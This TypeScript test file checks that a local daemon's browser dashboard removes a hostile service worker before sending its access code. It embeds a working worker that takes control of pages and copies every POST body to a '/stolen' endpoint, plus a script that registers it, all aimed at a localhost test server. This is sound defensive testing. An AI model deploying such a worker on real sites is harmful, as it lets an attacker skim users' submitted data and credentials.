// A service worker that another program left in the browser: it is ended before the page sends anything that it could read.
import { createServer, type IncomingMessage, request, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startNode, type TestNode } from '../../support/node/node.ts'
import { CHROMIUM, openChromium } from '../../support/run/browser.ts'
import { atEnd } from '../../support/run/processes.ts'
import { PATIENCE_MS, until } from '../../support/run/until.ts'

/** What the other program left: it controls each page at once, and hands on what the page sends. */
const WORKER = `addEventListener('install', (event) => event.waitUntil(skipWaiting()))
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => event.respondWith(handOn(event.request)))
async function handOn(request) {
  if (request.method === 'POST') await fetch('/stolen', { method: 'POST', body: await request.clone().text() })
  return fetch(request)
}`
const PLANTED = `<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
  .then(() => (document.title = 'planted'))</script>`

describe.skipIf(CHROMIUM === undefined)('a service worker of another program', () => {
  let node: TestNode
  let browser: Browser
  let context: BrowserContext
  let origin = ''
  const stolen: string[] = []
  let posted = 0

  /** The other program and the daemon one after the other at one port are one server here, which asks the daemon for the rest. */
  function both(incoming: IncomingMessage, response: ServerResponse): void {
    const { url = '/', method, headers } = incoming
    if (url === '/plant') response.setHeader('content-type', 'text/html').end(PLANTED)
    else if (url === '/worker.js') response.setHeader('content-type', 'text/javascript').end(WORKER)
    else if (url === '/stolen') {
      incoming.setEncoding('utf8').on('data', (text: string) => stolen.push(text))
      incoming.on('end', () => response.end())
    } else {
      if (method === 'POST' && url.endsWith('/sessions')) posted += 1
      const { host } = new URL(daemon)
      const own = { ...headers, host, ...(headers.origin === undefined ? {} : { origin: daemon }) }
      const { referer: _, ...told } = own
      const asked = request(`${daemon}${url}`, { method, headers: told }, (answer) => {
        response.writeHead(answer.statusCode ?? 500, answer.headers)
        answer.pipe(response)
      })
      asked.on('error', () => response.destroy())
      incoming.pipe(asked)
    }
  }
  let daemon = ''
  const hash = async (): Promise<string> =>
    new URL((await node.karo(['dashboard', '--no-open'])).stdout.trim()).hash
  async function plant(): Promise<void> {
    const other = await context.newPage()
    await other.goto(`${origin}/plant`)
    await until(async () => (await other.title()) === 'planted', { what: 'the worker controls its pages' })
    await other.close()
  }
  const opened = (page: Page): Promise<void> => page.locator('nav').waitFor()

  beforeAll(async () => {
    node = await startNode()
    daemon = new URL((await node.karo(['dashboard', '--no-open'])).stdout.trim()).origin
    const server = createServer(both).listen(0, '127.0.0.1')
    atEnd(() => server.closeAllConnections())
    atEnd(() => void server.close())
    await new Promise((resolve) => server.once('listening', resolve))
    origin = `http://localhost:${(server.address() as AddressInfo).port}`
    browser = await openChromium()
    context = await browser.newContext()
    context.setDefaultTimeout(PATIENCE_MS)
  })
  afterAll(async () => browser?.close())

  test('the worker reads what a page sends, where nobody ends it', async () => {
    await plant()
    const page = await context.newPage()
    await page.goto(`${origin}/plant`)
    await page.evaluate(`fetch('/api/v1/nothing', { method: 'POST', body: 'a secret' })`)
    expect(stolen).toEqual(['a secret'])
    stolen.length = 0
    await page.close()
  })

  test('a page that is opened with a code ends it, and is loaded anew before the code is sent', async () => {
    await plant()
    const page = await context.newPage()
    await page.goto(`${origin}/${await hash()}`)
    await opened(page)
    expect(stolen).toEqual([])
    await page.close()
  })

  test('so does a page that is there already and is given a code in its address', async () => {
    const page = await context.newPage()
    await page.goto(`${origin}/`)
    await page.getByText('run this in a terminal').waitFor()
    await plant()
    await until(async () => (await page.evaluate('navigator.serviceWorker.controller !== null')) === true, {
      what: 'the worker controls the page',
    })
    await page.evaluate(`location.hash = ${JSON.stringify(await hash())}`)
    await opened(page)
    expect(stolen).toEqual([])
    await page.close()
  })

  test('where it cannot be ended the code is not sent, and the page says why', async () => {
    await plant()
    const page = await context.newPage()
    await page.addInitScript(
      `ServiceWorkerRegistration.prototype.unregister = () => Promise.reject(new Error('no'))`,
    )
    const before = posted
    await page.goto(`${origin}/${await hash()}`)
    await page.getByText('left a service worker in the browser').waitFor()
    expect([posted, stolen]).toEqual([before, []])
    await page.close()
  })
})
